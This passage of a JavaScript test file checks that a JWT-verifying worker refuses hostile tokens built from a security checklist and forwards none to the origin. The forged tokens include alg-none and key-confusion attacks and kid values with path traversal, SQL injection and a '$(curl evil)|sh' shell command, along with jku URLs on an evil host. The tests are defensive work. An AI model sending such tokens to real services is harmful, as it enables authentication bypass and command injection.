        await expectAllowed(await w.get(await origin.issue({ sub: "warm" })), "warm", `${mode}: stale keys serve`);
        const h = await health(w);
        assert.equal(h.failures, failures + 1, `${mode}: a refetch was tried and failed`);
        assert.equal(h.fresh_until, fresh, `${mode}: the held set was kept`);
        failures = h.failures;
        if (mode === "down") await ep.up();
        return Date.now() - t0;
      };
      const hung = await stale("hang", fresh + 1); // answered after the 5 s fetch timeout
      assert.ok(hung >= 4500 && hung < 9000, `served stale after the fetch timeout (${hung} ms)`);
      await stale("down", fresh + 7);
      await stale("reset", fresh + 8);
      await stale("html", fresh + 9);
      await stale("weak", fresh + 10);
      await stale("huge", fresh + 11);
      await at(fresh + STALE + 1); // past the bound
      ep.state.mode = "truncated";
      await expectDenied(await w.get(token), 503, "keys_unavailable", "past the bound, a verified token");
      await expectDenied(await w.get(await origin.issue({ sub: "warm" })), 503, "keys_unavailable", "past the bound");
      await at(fresh + STALE + 2);
      ep.state.mode = "ok";
      await expectAllowed(await w.get(token), "warm", "recovered");
    },
  );
});

// ------------------------------------------------------------------------------------------
// Hostile tokens at the edge: what the security checklist (docs/security.md) rows 1–19 describe, sent through the
// worker. Tokens are built by hand (raw JSON, so duplicate keys and odd types survive) and signed
// with node:crypto by an issuer key the worker trusts; none may reach the origin.

test("hostile tokens through the worker, one or more per SECURITY row: refused with their code, nothing forwarded", async () => {
  const { privateKey, publicKey } = generateKeyPairSync("ec", { namedCurve: "P-256" });
  const KID = "hostile-k1";
  const jwk = { ...publicKey.export({ format: "jwk" }), kid: KID, alg: "ES256", use: "sig" };
  const attacker = generateKeyPairSync("ec", { namedCurve: "P-256" });
  const ISS = "https://issuer.hostile.test";
  const AUD = "hostile-api";
  const enc = (text) => Buffer.from(text).toString("base64url");
  const es256 = (input, key = privateKey) => cryptoSign("sha256", Buffer.from(input), { key, dsaEncoding: "ieee-p1363" }).toString("base64url");
  /** A compact JWS from raw header and claims text, signed unless `sig` is given. */
  const jws = (header, claims, { sig, key } = {}) => {
    const input = `${enc(header)}.${enc(claims)}`;
    return `${input}.${sig ?? es256(input, key)}`;
  };
  const now = nowS();
  const H = (extra = "") => `{"alg":"ES256","kid":"${KID}","typ":"at+jwt"${extra}}`;
  const C = (extra = "", { iat = now, exp = now + 300, aud = `"${AUD}"`, iss = `"${ISS}"` } = {}) =>
    `{"sub":"h","jti":"${randomUUID()}"${iss === null ? "" : `,"iss":${iss}`}${aud === null ? "" : `,"aud":${aud}`}${iat === null ? "" : `,"iat":${iat}`}${exp === null ? "" : `,"exp":${exp}`}${extra}}`;
  const pem = publicKey.export({ type: "spki", format: "pem" });
  const hmacWithPublicKey = (() => {
    const input = `${enc('{"alg":"HS256","kid":"' + KID + '","typ":"at+jwt"}')}.${enc(C())}`;
    return `${input}.${createHmac("sha256", pem).update(input).digest("base64url")}`;
  })();
  const malformed = (why) => ({ status: 401, code: "token_malformed", why });
  const cases = [
    // row 1: alg none in any case, mixed-case names
    [1, "alg none", jws('{"alg":"none"}', C(), { sig: "" }), malformed("unsigned tokens are not accepted")],
    [1, "alg None", jws('{"alg":"None"}', C(), { sig: "" }), malformed("unsigned tokens are not accepted")],
    [1, "alg nOnE, signed", jws('{"alg":"nOnE","kid":"' + KID + '"}', C()), malformed("unsigned tokens are not accepted")],
    [1, "alg es256 (lower case)", jws(`{"alg":"es256","kid":"${KID}","typ":"at+jwt"}`, C()), malformed("algorithm not supported")],
    // row 2: the public key used as an HMAC secret
    [2, "HS256 signed with the ES256 public key (PEM)", hmacWithPublicKey, { status: 401, code: "token_algorithm_not_allowed" }],
    // row 3: kid injection
    // '.' and '/' are kid characters: the value is only a key in the in-memory map, so unknown.
    [3, "kid path traversal", jws('{"alg":"ES256","kid":"../../../../etc/passwd","typ":"at+jwt"}', C()), { status: 401, code: "token_unknown_key" }],
    [3, "kid SQL", jws(`{"alg":"ES256","kid":"' OR '1'='1' --","typ":"at+jwt"}`, C()), malformed("invalid kid")],
    [3, "kid command", jws('{"alg":"ES256","kid":"$(curl evil)|sh","typ":"at+jwt"}', C()), malformed("invalid kid")],
    [3, "kid NUL and CRLF", jws('{"alg":"ES256","kid":"hostile-k1\\u0000\\r\\n","typ":"at+jwt"}', C()), malformed("invalid kid")],
    [3, "kid 300 bytes", jws(`{"alg":"ES256","kid":"${"k".repeat(300)}","typ":"at+jwt"}`, C()), malformed("invalid kid")],
    // row 4: jku / x5u
    [4, "jku", jws(H(',"jku":"https://evil.test/jwks.json"'), C()), malformed("header parameter not accepted")],
    [4, "x5u", jws(H(',"x5u":"https://evil.test/cert.pem"'), C()), malformed("header parameter not accepted")],
    // row 5: embedded attacker key
    [5, "embedded jwk, signed by its key", jws(`{"alg":"ES256","typ":"at+jwt","jwk":${JSON.stringify(attacker.publicKey.export({ format: "jwk" }))}}`, C(), { key: attacker.privateKey }), malformed("header parameter not accepted")],
    [5, "x5c", jws(H(',"x5c":["MIIB"]'), C()), malformed("header parameter not accepted")],
    // row 6: psychic signature
    [6, "ECDSA r = s = 0", jws(H(), C(), { sig: Buffer.alloc(64).toString("base64url") }), { status: 401, code: "token_bad_signature" }],
    [6, "signed by another key, same kid", jws(H(), C(), { key: attacker.privateKey }), { status: 401, code: "token_bad_signature" }],
    // row 8: crit
    [8, "crit []", jws(H(',"crit":[]'), C()), malformed("header parameter not accepted")],
    [8, "crit [exp]", jws(H(',"crit":["exp"],"exp":1'), C()), malformed("header parameter not accepted")],
    // row 9: b64
    [9, "b64 false", jws(H(',"b64":false'), C()), malformed("header parameter not accepted")],
    [9, "b64 true", jws(H(',"b64":true'), C()), malformed("header parameter not accepted")],
    // row 10: duplicate keys
    [10, "duplicate alg in the header", jws(`{"alg":"none","alg":"ES256","kid":"${KID}","typ":"at+jwt"}`, C()), malformed("header is not a valid JSON object")],
    [10, "duplicate sub in the claims", jws(H(), C(',"sub":"admin"')), malformed("claims are not a valid JSON object")],
    [10, "duplicate key in a custom claim", jws(H(), C(',"roles":{"admin":false,"admin":true}')), malformed("claims are not a valid JSON object")],
    // row 11: size, segments, nesting
    [11, "four segments", `${jws(H(), C())}.e30`, malformed("token must have three segments")],
    [11, "two segments", jws(H(), C()).split(".").slice(0, 2).join("."), malformed("token must have three segments")],
    [11, "deep nesting", jws(H(), C(`,"x":${"[".repeat(2000)}${"]".repeat(2000)}`)), { status: 401, code: "token_malformed" }],
    [11, "8193 bytes", jws(H(), C(`,"pad":"${"p".repeat(8000)}"`)), malformed("token too large")],
    // row 12: strict base64url
    [12, "padding", (() => { const [h, c, s] = jws(H(), C()).split("."); return `${h}.${c}==.${s}`; })(), malformed("claims are not base64url")],
    [12, "standard alphabet", (() => { const t = jws(H(), C()); const [h, c, s] = t.split("."); return `${h}.${c}.${s.replace(/-/g, "+").replace(/_/g, "/")}${/[-_]/.test(s) ? "" : "+/"}`; })(), malformed("signature is not base64url")],
    // row 16: exp / nbf / iat types and the lifetime cap
    [16, "exp as a string", jws(H(), C("", { exp: `"${now + 300}"` })), malformed("invalid claim")],
    [16, "exp fractional", jws(H(), C("", { exp: `${now + 300}.5` })), malformed("invalid claim")],
    [16, "iat negative", jws(H(), C("", { iat: -1 })), malformed("invalid claim")],
    [16, "exp past year 9999", jws(H(), C("", { exp: "253402300800" })), malformed("invalid claim")],
    [16, "exp missing", jws(H(), C("", { exp: null })), { status: 401, code: "token_claim_missing" }],
    [16, "iat missing", jws(H(), C("", { iat: null })), { status: 401, code: "token_claim_missing" }],
    [16, "ten-year lifetime", jws(H(), C("", { exp: now + 10 * 365 * 86400 })), { status: 401, code: "token_lifetime_too_long" }],
    // row 17: nbf and iat in the future, beyond the explicit 30 s leeway
    [17, "nbf in 10 minutes", jws(H(), C(`,"nbf":${now + 600}`)), { status: 401, code: "token_not_yet_valid" }],
    [17, "iat in 10 minutes", jws(H(), C("", { iat: now + 600, exp: now + 900 })), { status: 401, code: "token_issued_in_future" }],
    // row 18: iss / aud types and presence
    [18, "aud a number", jws(H(), C("", { aud: "42" })), malformed("invalid claim")],
    [18, "iss an array", jws(H(), C("", { iss: `["${ISS}"]` })), malformed("invalid claim")],
    [18, "aud missing", jws(H(), C("", { aud: null })), { status: 401, code: "token_wrong_audience" }],
    [18, "iss missing", jws(H(), C("", { iss: null })), { status: 401, code: "token_wrong_issuer" }],
    [18, "aud of another API", jws(H(), C("", { aud: '["other-api"]' })), { status: 401, code: "token_wrong_audience" }],
    // row 19: token types
    [19, "refresh token (rt+jwt)", jws(`{"alg":"ES256","kid":"${KID}","typ":"rt+jwt"}`, C()), { status: 401, code: "token_wrong_type" }],
    [19, "ID token (typ JWT)", jws(`{"alg":"ES256","kid":"${KID}","typ":"JWT"}`, C()), { status: 401, code: "token_wrong_type" }],
    [19, "no typ", jws(`{"alg":"ES256","kid":"${KID}"}`, C()), { status: 401, code: "token_wrong_type" }],
  ];
  await withFaulty(
    { WARDEN_JWKS: JSON.stringify({ keys: [jwk] }), WARDEN_ISSUER: ISS, WARDEN_AUDIENCE: AUD, WARDEN_ACCESS_TYP: "at+jwt" },
    {},
    async (w) => {
      // Controls: well-formed tokens from the same issuer pass, so each refusal is the attack's.
      await expectAllowed(await w.get(jws(H(), C())), "h", "control");
      await expectAllowed(await w.get(jws(H(), C(`,"nbf":${now + 20}`))), "h", "nbf within the leeway");
      await expectAllowed(await w.get(jws(H(), C("", { aud: `["other-api","${AUD}"]` }))), "h", "aud array naming this API");
      await expectAllowed(await w.get(jws('{"alg":"ES256","kid":"' + KID + '","typ":"application/AT+JWT"}', C())), "h", "typ, media-type form");
      const reached = origin.requests.get("/api") ?? 0;
      for (const [row, name, token, want] of cases) {
        const r = await w.get(token);
        const text = await r.text();
        const what = `row ${row}, ${name}`;
        assert.equal(r.status, want.status, `${what}: ${text}`);
        assert.equal(r.headers.get("cache-control"), "no-store", what);
        const body = JSON.parse(text);
        if (want.code) assert.equal(body.code, want.code, `${what}: ${text}`);
        if (want.why) assert.equal(body.error_description, want.why, what);
        assert.equal(body.error, "invalid_token", what);
        assert.match(r.headers.get("www-authenticate"), /^Bearer error="invalid_token", error_description="[ -~]+"$/, what);
      }
      // row 13: only the exact "Bearer " prefix; nothing trimmed or guessed.
      const good = jws(H(), C());
      const raw = (authorization) => w.fetch(`${URL_}/api`, { headers: { authorization } });
      await expectDenied(await raw(`Bearer  ${good}`), 401, "token_malformed", "two spaces");
      await expectDenied(await raw(`Bearer\t${good}`), 400, "invalid_request", "a tab");
      await expectDenied(await raw(`bearer ${good}`), 400, "invalid_request", "lower-case scheme");
      await expectDenied(await raw(`BEARER ${good}`), 400, "invalid_request", "upper-case scheme");
      await expectDenied(await raw(`Bearer ${good.slice(0, 20)} ${good.slice(20)}`), 401, "token_malformed", "a space inside");
      assert.equal(origin.requests.get("/api") ?? 0, reached, "no hostile token reached the origin");
    },
  );
});
